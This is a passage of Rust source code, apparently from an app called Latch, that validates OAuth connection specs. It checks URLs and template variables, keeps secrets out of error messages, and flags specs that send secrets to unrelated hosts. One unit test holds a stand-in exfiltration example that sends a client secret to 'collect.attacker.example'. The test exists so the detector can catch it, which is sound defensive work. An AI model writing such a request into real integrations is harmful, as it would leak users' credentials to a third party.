                    problems.push(format!("communication: the spec has no '{name}' step, so it cannot sign in."));
                }
            }
        }
        _ => problems.push("communication: the spec's communication must be a JSON object of steps.".into()),
    }
    let mut parts: Vec<(String, &Json)> = vec![("communication".into(), &document.communication)];
    if let Some(base) = &document.base {
        parts.push(("base".into(), base));
    }
    for (prefix, value) in parts {
        for (path, err) in iml::check_json(value) {
            problems.push(format!("{prefix}{}{path}: {} (at character {})", if path.is_empty() { "" } else { "." }, err.message.trim_end_matches('.'), err.position + 1));
        }
        let mut strings = Vec::new();
        strings_with_paths(value, &mut prefix.clone(), &mut strings);
        for (path, text) in strings {
            let Ok(template) = Template::parse(text) else { continue };
            for root in template.roots() {
                if !ROOTS.contains(&root.as_str()) {
                    let at = text.find(&root).map(|i| i + 1).unwrap_or(1);
                    problems.push(format!(
                        "{path}: '{root}' is not a variable a spec can read (at character {at}); it can read {}.",
                        ROOTS[..11].join(", ")
                    ));
                }
            }
        }
    }
    // Addresses written out must be addresses Latch sends to (https, or
    // plain http to this computer); templated ones are checked when built.
    if let Json::Object(steps) = &document.communication {
        for (name, step) in steps {
            let requests: Vec<(String, &Json)> = match step {
                Json::Array(items) => items.iter().enumerate().map(|(i, r)| (format!("communication.{name}[{}]", i + 1), r)).collect(),
                one => vec![(format!("communication.{name}"), one)],
            };
            for (place, request) in requests {
                if let Some(url) = request.get("url").and_then(Json::as_str).filter(|u| !u.contains("{{")) {
                    if let Err(message) = validate::check_endpoint_url("The address", url.trim()) {
                        problems.push(format!("{place}.url: {message}"));
                    }
                }
            }
        }
    }
    if let Some(url) = document.base.as_ref().and_then(|b| b.get("baseUrl")).and_then(Json::as_str).filter(|u| !u.contains("{{")) {
        if let Err(message) = validate::check_endpoint_url("The base URL", url.trim()) {
            problems.push(format!("base.baseUrl: {message}"));
        }
    }
    for (i, definition) in document.parameters.iter().enumerate() {
        if definition.get("name").and_then(Json::as_str).is_none_or(|n| n.trim().is_empty()) {
            problems.push(format!("parameters[{}]: a parameter needs a 'name'.", i + 1));
        }
    }
    problems
}

/// The spec's schema (docs/latch-spec.schema.json), the same file the
/// app's editor lints with.
pub const SCHEMA: &str = include_str!("../../../../docs/latch-spec.schema.json");

/// Where `document` breaks the schema, each with its place. The messages
/// never quote a value from the spec (it may hold common secrets).
fn schema_problems(document: &SpecDocument) -> Vec<String> {
    static VALIDATOR: std::sync::OnceLock<Option<jsonschema::Validator>> = std::sync::OnceLock::new();
    let validator = VALIDATOR.get_or_init(|| {
        let schema: Json = serde_json::from_str(SCHEMA).ok()?;
        jsonschema::validator_for(&schema).ok()
    });
    let Some(validator) = validator else {
        return vec!["Latch's spec schema could not be read; this is a bug in this build of Latch.".into()];
    };
    let Ok(instance) = serde_json::to_value(document) else { return Vec::new() };
    validator
        .iter_errors(&instance)
        .map(|err| {
            let pointer = err.instance_path().to_string();
            let path: Vec<String> = pointer
                .split('/')
                .filter(|p| !p.is_empty())
                .map(|p| match p.parse::<usize>() {
                    Ok(n) => format!("[{}]", n + 1),
                    Err(_) => format!(".{p}"),
                })
                .collect();
            let path = path.concat();
            let place = if path.is_empty() { "the spec".to_owned() } else { path.trim_start_matches('.').to_owned() };
            format!("{place}: {} (the schema: docs/latch-spec.schema.json)", err.masked())
        })
        .collect()
}

fn strings_with_paths<'v>(value: &'v Json, path: &mut String, out: &mut Vec<(String, &'v str)>) {
    match value {
        Json::String(s) => out.push((path.clone(), s)),
        Json::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                let len = path.len();
                path.push_str(&format!("[{}]", i + 1));
                strings_with_paths(item, path, out);
                path.truncate(len);
            }
        }
        Json::Object(map) => {
            for (key, item) in map {
                let len = path.len();
                path.push('.');
                path.push_str(key);
                out.push((path.clone(), key.as_str()));
                strings_with_paths(item, path, out);
                path.truncate(len);
            }
        }
        _ => {}
    }
}

/// Hosts a spec sends its secrets to (`common` values or password
/// parameters) that are not the hosts of its own `authorize`/`token` URLs
/// or its base URL: each a warning the user must confirm.
pub fn secret_destinations(document: &SpecDocument) -> Vec<String> {
    let own: Vec<String> = ["authorize", "token"]
        .iter()
        .filter_map(|step| document.step(step))
        .flat_map(|s| match s {
            Json::Array(items) => items.clone(),
            one => vec![one.clone()],
        })
        .filter_map(|r| r.get("url").and_then(Json::as_str).and_then(literal_host))
        .chain(document.base.as_ref().and_then(|b| b.get("baseUrl")).and_then(Json::as_str).and_then(literal_host))
        .collect();
    let secret_params = document.secret_parameters();
    let mut flagged = Vec::new();
    if let Json::Object(steps) = &document.communication {
        for step in steps.values() {
            let requests = match step {
                Json::Array(items) => items.clone(),
                one => vec![one.clone()],
            };
            for request in requests {
                let Some(host) = request.get("url").and_then(Json::as_str).and_then(literal_host) else { continue };
                if own.contains(&host) || flagged.contains(&host) {
                    continue;
                }
                let mut sent = request.clone();
                if let Json::Object(o) = &mut sent {
                    o.remove("response");
                    o.remove("log");
                }
                let text = sent.to_string();
                let sends_common = text.contains("common.");
                let sends_password = secret_params.iter().any(|p| text.contains(&format!("parameters.{p}")));
                if sends_common || sends_password {
                    flagged.push(host);
                }
            }
        }
    }
    flagged
}

#[cfg(test)]
mod tests {
    use super::*;

    fn document(communication: Json) -> SpecDocument {
        SpecDocument { communication, ..SpecDocument::default() }
    }

    #[test]
    fn check_names_unknown_steps_variables_and_iml_errors_with_their_place() {
        let spec = document(serde_json::json!({
            "token": { "url": "https://id.example.com/token", "body": { "code": "{{tmp.code}}", "x": "{{lower(}}" } },
            "refersh": { "url": "https://id.example.com/token" }
        }));
        let problems = check(&spec);
        assert!(problems.iter().any(|p| p.starts_with("communication.refersh:")), "{problems:?}");
        assert!(problems.iter().any(|p| p.contains("token.body.code") && p.contains("'tmp'")), "{problems:?}");
        assert!(problems.iter().any(|p| p.contains("token.body.x") && p.contains("at character")), "{problems:?}");
        assert!(check(&document(serde_json::json!({ "authorize": {} }))).iter().any(|p| p.contains("no 'token' step")));
        let plain = check(&document(serde_json::json!({ "token": { "url": "not an address" } })));
        assert!(plain.iter().any(|p| p.starts_with("communication.token.url: The address")), "{plain:?}");
        let http = check(&document(serde_json::json!({ "token": { "url": "http://id.example.com/token" } })));
        assert!(http.iter().any(|p| p.contains("https://")), "{http:?}");
    }

    #[test]
    fn the_schema_names_the_place_and_never_quotes_the_value() {
        let spec = document(serde_json::json!({
            "token": { "url": "https://id.example.com/token", "method": 5, "urll": "s3cret-value-in-a-typo" }
        }));
        let problems = check(&spec);
        assert!(problems.iter().any(|p| p.starts_with("communication.token.method:")), "{problems:?}");
        assert!(problems.iter().any(|p| p.starts_with("communication.token:") && p.contains("urll")), "{problems:?}");
        assert!(problems.iter().all(|p| !p.contains("s3cret-value-in-a-typo")), "{problems:?}");
        let fine = document(serde_json::json!({ "token": { "url": "https://id.example.com/token" } }));
        assert!(check(&fine).is_empty(), "{:?}", check(&fine));
    }

    #[test]
    fn a_spec_sending_a_secret_to_another_host_is_flagged() {
        let mut spec = document(serde_json::json!({
            "authorize": { "url": "https://id.example.com/auth" },
            "token": { "url": "https://id.example.com/token", "body": { "s": "{{common.clientSecret}}" } },
            "info": { "url": "https://collect.attacker.example/x", "qs": { "s": "{{common.clientSecret}}" } },
            "invalidate": { "url": "https://other.example/logout", "headers": { "a": "{{connection.accessToken}}" } }
        }));
        assert_eq!(secret_destinations(&spec), ["collect.attacker.example"]);
        spec.communication["info"]["url"] = "https://id.example.com/me".into();
        assert!(secret_destinations(&spec).is_empty());
    }

    #[test]
    fn response_types_per_status_pick_the_narrowest_range() {
        let by: JsonMap<String, Json> = serde_json::from_value(serde_json::json!({ "*": "json", "400-499": "text", "404": "xml" })).unwrap();
        assert_eq!(type_for_status(&by, 200).as_deref(), Some("json"));
        assert_eq!(type_for_status(&by, 401).as_deref(), Some("text"));
        assert_eq!(type_for_status(&by, 404).as_deref(), Some("xml"));
    }

    #[test]
    fn the_trace_masks_every_secret_the_run_knows() {
        let spec = document(serde_json::json!({ "token": {} }));
        let http = ProviderHttp::new();
        let mut common = JsonMap::new();
        common.insert("clientSecret".into(), "very-secret-value".into());
        let runner = Runner::new(
            RunInput {
                document: &spec,
                parameters: JsonMap::new(),
                secret_parameters: JsonMap::new(),
                common,
                data: JsonMap::new(),
                scopes: vec![],
                redirect_uri: "http://127.0.0.1:1/oauth/cb/app".into(),
            },
            &http,
            Utc::now(),
        );
        assert_eq!(runner.mask("a=very-secret-value&b=1"), "a=[redacted]&b=1");
    }
}
